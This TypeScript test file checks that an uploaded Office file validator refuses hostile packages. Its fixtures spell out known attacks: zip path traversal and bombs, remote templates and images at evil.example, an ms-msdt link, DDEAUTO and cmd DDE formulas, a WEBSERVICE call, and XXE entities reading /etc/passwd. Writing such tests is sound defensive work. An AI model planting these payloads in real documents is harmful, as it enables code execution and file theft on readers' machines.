import { DomainError } from '@entregent/model';
import { Document, ExternalHyperlink, Packer, Paragraph, TextRun } from 'docx';
import { strToU8, type Zippable, zipSync } from 'fflate';
import { assertOfficePackage, type OfficeKind } from './office-package.ts';

const xml = '<?xml version="1.0" encoding="UTF-8"?>';
const openXml = 'application/vnd.openxmlformats-officedocument';
const main = (type: string, part: string) =>
  `${xml}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/${part}" ContentType="${type}"/></Types>`;
const rel = (type: string, target: string, mode = ' TargetMode="External"') =>
  `${xml}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`;

type Parts = Readonly<Record<string, string | Uint8Array>>;
const wordTypes = main(`${openXml}.wordprocessingml.document.main+xml`, 'word/document.xml');
const docx: Parts = {
  '[Content_Types].xml': wordTypes,
  '_rels/.rels': rel('officeDocument', 'word/document.xml', ''),
  'word/document.xml': `${xml}<w:document/>`,
};
const xlsx: Parts = {
  '[Content_Types].xml': main(`${openXml}.spreadsheetml.sheet.main+xml`, 'xl/workbook.xml'),
  '_rels/.rels': rel('officeDocument', 'xl/workbook.xml', ''),
  'xl/workbook.xml': `${xml}<workbook/>`,
  'xl/worksheets/sheet1.xml': `${xml}<worksheet><c><f>SUM(A1:A2)</f></c></worksheet>`,
};
const zip = (parts: Parts): Uint8Array =>
  zipSync(
    Object.fromEntries(
      Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]),
    ) as Zippable,
  );
const reasonOf = (bytes: Uint8Array, kind: OfficeKind = 'docx'): string => {
  try {
    assertOfficePackage(bytes, kind);
    return 'accepted';
  } catch (error) {
    return error instanceof DomainError ? String((error.details['reason'] as readonly string[])[1]) : String(error);
  }
};
const withPart = (name: string, part: string | Uint8Array, of: Parts = docx) => zip({ ...of, [name]: part });
/** The archive with some bytes overwritten, where a signature stands for the n-th time. */
const patched = (bytes: Uint8Array, signature: number, offset: number, ...values: readonly number[]): Uint8Array => {
  const copy = Uint8Array.from(bytes);
  const at = Buffer.from(copy.buffer).indexOf(Buffer.from(Uint32Array.of(signature).buffer));
  copy.set(values, at + offset);
  return copy;
};
const joined = (...parts: readonly Uint8Array[]) => Uint8Array.from(Buffer.concat(parts));

const unsound = 'it is not a sound Word document or Excel workbook';
const wrong = 'its content is not what its name says';
const tooLarge = 'it is too large, or becomes so when unpacked';
const runs = 'it holds a macro or an embedded object';
const fetches = 'it fetches parts from elsewhere';
const declares = 'its XML holds a declaration that is not allowed';

describe('a file from outside', () => {
  it('is accepted when it is what Word or Excel would write', async () => {
    const link = new ExternalHyperlink({ link: 'https://iso.org/', children: [new TextRun('ISO')] });
    const written = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph({ children: [link] })] }] }));
    expect(reasonOf(written)).toBe('accepted');
    expect(reasonOf(zip(docx))).toBe('accepted');
    expect(reasonOf(zip(xlsx), 'xlsx')).toBe('accepted');
  });

  it.each<[string, string, () => Uint8Array]>([
    ['nothing', unsound, () => new Uint8Array()],
    ['a text', unsound, () => strToU8('bonjour')],
    ['a programme', unsound, () => strToU8(`MZ${'\0'.repeat(100)}`)],
    ['a PDF', unsound, () => strToU8('%PDF-1.7 %%EOF')],
    ['an old Word document', unsound, () => Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, ...Array.from({ length: 600 }, () => 0))],
    ['a cut archive', unsound, () => zip(docx).subarray(0, 300)],
    ['an archive behind a picture', unsound, () => joined(strToU8('\x89PNG'), zip(docx))],
    ['an archive behind a script', unsound, () => joined(strToU8('#!/bin/sh\n'), zip(docx))],
    ['an archive before a page', unsound, () => joined(zip(docx), strToU8('<script>1</script>'))],
    ['two archives in one', unsound, () => joined(zip(xlsx), zip(docx))],
    ['an archive with a comment', unsound, () => joined(patched(zip(docx), 0x06054b50, 20, 3, 0), strToU8('abc'))],
    ['an encrypted entry', unsound, () => patched(zip(docx), 0x02014b50, 8, 1)],
    ['an unknown way of packing', unsound, () => patched(zip(docx), 0x02014b50, 10, 12)],
    ['two names for one entry', unsound, () => patched(zip(docx), 0x02014b50, 46, 0x41)],
    ['two sizes for one entry', unsound, () => patched(zip(docx), 0x04034b50, 22, 1)],
    ['an entry that stands elsewhere', unsound, () => patched(zip(docx), 0x02014b50, 42, 9)],
    ['fewer entries than there are', unsound, () => patched(zip(docx), 0x06054b50, 8, 1, 0, 1, 0)],
    ['a path that climbs', unsound, () => withPart('../../evil.xml', xml)],
    ['a path that climbs within', unsound, () => withPart('word/../../evil.xml', xml)],
    ['a path from the root', unsound, () => withPart('/etc/passwd', 'x')],
    ['a path of Windows', unsound, () => withPart('C:\\evil.exe', 'x')],
    ['a path with backslashes', unsound, () => withPart('word\\..\\evil', 'x')],
    ['a path with a line break', unsound, () => withPart('word/a\nb.xml', xml)],
    ['a name in two cases', unsound, () => withPart('WORD/document.xml', xml)],
    ['a plain archive', wrong, () => zip({ 'a.txt': 'x' })],
    ['a workbook that is called a document', wrong, () => zip(xlsx)],
    ['a document without its text', wrong, () => zip({ '[Content_Types].xml': docx['[Content_Types].xml']! })],
    ['a document of another type', wrong, () => withPart('[Content_Types].xml', main('text/html', 'word/document.xml'))],
    ['a bomb', tooLarge, () => withPart('word/media/a.png', new Uint8Array(60_000_000))],
    ['a bomb in parts', tooLarge, () => zip({ ...docx, ...Object.fromEntries(Array.from({ length: 5 }, (_, n) => [`word/media/${n}.png`, new Uint8Array(40_000_000)])) })],
    ['markup that packs too well', tooLarge, () => withPart('word/document.xml', `${xml}${' '.repeat(2_000_000)}`)],
    ['too many entries', tooLarge, () => zip({ ...docx, ...Object.fromEntries(Array.from({ length: 2001 }, (_, n) => [`word/${n}.txt`, 'x'])) })],
    ['an entry larger than it says', tooLarge, () => patched(patched(withPart('[Content_Types].xml', wordTypes.padEnd(wordTypes.length + 9)), 0x02014b50, 24, 9, 0), 0x04034b50, 22, 9, 0)],
    ['more than twenty megabytes', tooLarge, () => new Uint8Array(20_000_001)],
    ['a macro', runs, () => withPart('word/vbaProject.bin', 'x')],
    ['a macro in other letters', runs, () => withPart('word/VBAPROJECT.BIN', 'x')],
    ['a document with macros enabled', runs, () => withPart('[Content_Types].xml', main('application/vnd.ms-word.document.macroEnabled.main+xml', 'word/document.xml'))],
    ['an embedded object', runs, () => withPart('word/embeddings/oleObject1.bin', 'x')],
    ['an embedded workbook', runs, () => withPart('word/embeddings/a.xlsx', 'x')],
    ['a control', runs, () => withPart('word/activeX/activeX1.xml', xml)],
    ['an interface of its own', runs, () => withPart('customUI/customUI14.xml', xml)],
    ['a remote template', fetches, () => withPart('word/_rels/settings.xml.rels', rel('attachedTemplate', 'https://evil.example/t.dotm'))],
    ['a remote picture', fetches, () => withPart('word/_rels/document.xml.rels', rel('image', 'https://evil.example/p.png'))],
    ['a picture on a share', fetches, () => withPart('word/_rels/document.xml.rels', rel('image', '\\\\evil.example\\p.png'))],
    ['a picture of this machine', fetches, () => withPart('word/_rels/document.xml.rels', rel('image', 'file:///etc/passwd'))],
    ['a remote object', fetches, () => withPart('word/_rels/document.xml.rels', rel('oleObject', 'http://evil.example/o'))],
    ['a remote frame', fetches, () => withPart('word/_rels/webSettings.xml.rels', rel('frame', 'http://evil.example/f'))],
    ['a remote part that does not say so', fetches, () => withPart('word/_rels/document.xml.rels', rel('image', 'https://evil.example/p.png', ''))],
    ['a remote part in single quotation marks', fetches, () => withPart('word/_rels/document.xml.rels', rel('image', 'x', " TargetMode='External'"))],
    ['a link that runs', fetches, () => withPart('word/_rels/document.xml.rels', rel('hyperlink', 'ms-msdt:/id PCWDiagnostic'))],
    ['a field that runs', fetches, () => withPart('word/document.xml', `${xml}<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>`)],
    ['a field in pieces that runs', fetches, () => withPart('word/document.xml', `${xml}<w:instrText>DD</w:instrText><w:instrText>EAUTO x</w:instrText>`)],
    ['a field that includes', fetches, () => withPart('word/header1.xml', `${xml}<w:fldSimple w:instr="INCLUDETEXT https://evil.example"/>`)],
    ['an entity', declares, () => withPart('word/document.xml', `${xml}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>`)],
    ['entities that double', declares, () => withPart('word/styles.xml', `${xml}<!DOCTYPE d [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><d/>`)],
    ['a document type in small letters', declares, () => withPart('word/styles.xml', `${xml}<!doctype d><d/>`)],
    ['markup in UTF-16', declares, () => withPart('word/styles.xml', Uint8Array.from(Buffer.from('\ufeff<!DOCTYPE d>', 'utf16le')))],
    ['markup in UTF-7', declares, () => withPart('word/styles.xml', '<?xml version="1.0" encoding="UTF-7"?><d/>')],
    ['a style sheet of its own', declares, () => withPart('word/styles.xml', `${xml}<?xml-stylesheet href="x"?><d/>`)],
  ])('is refused as %s', (_, reason, bytes) => {
    const hostile = bytes();
    const began = performance.now();
    expect(reasonOf(hostile)).toBe(reason);
    expect(performance.now() - began).toBeLessThan(2000);
  });

  it.each([
    ['a link to other data', () => withPart('xl/externalLinks/externalLink1.xml', xml, xlsx)],
    ['a formula that asks the network', () => withPart('xl/worksheets/sheet1.xml', `${xml}<c><f>WEBSERVICE("https://evil.example")</f></c>`, xlsx)],
    ['a formula that runs a programme', () => withPart('xl/worksheets/sheet1.xml', `${xml}<c><f>cmd|' /c calc'!A0</f></c>`, xlsx)],
    ['a connection', () => withPart('xl/connections.xml', xml, xlsx)],
    ['macros of the old kind', () => withPart('xl/macrosheets/sheet1.xml', xml, xlsx)],
  ])('is refused as a workbook with %s', (_, bytes) => {
    expect([runs, fetches]).toContain(reasonOf(bytes(), 'xlsx'));
  });
}); // prettier-ignore
